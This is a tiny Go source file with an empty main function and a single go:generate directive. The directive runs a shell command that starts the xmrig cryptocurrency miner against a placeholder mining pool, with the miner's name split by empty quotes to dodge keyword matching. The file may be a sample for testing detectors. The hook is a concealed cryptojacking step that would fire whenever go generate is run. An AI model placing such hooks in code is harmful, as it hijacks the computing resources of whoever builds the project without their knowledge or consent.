package main

//go:generate sh -c "xm''rig -o pool.example.invalid:3333"

func main() {}
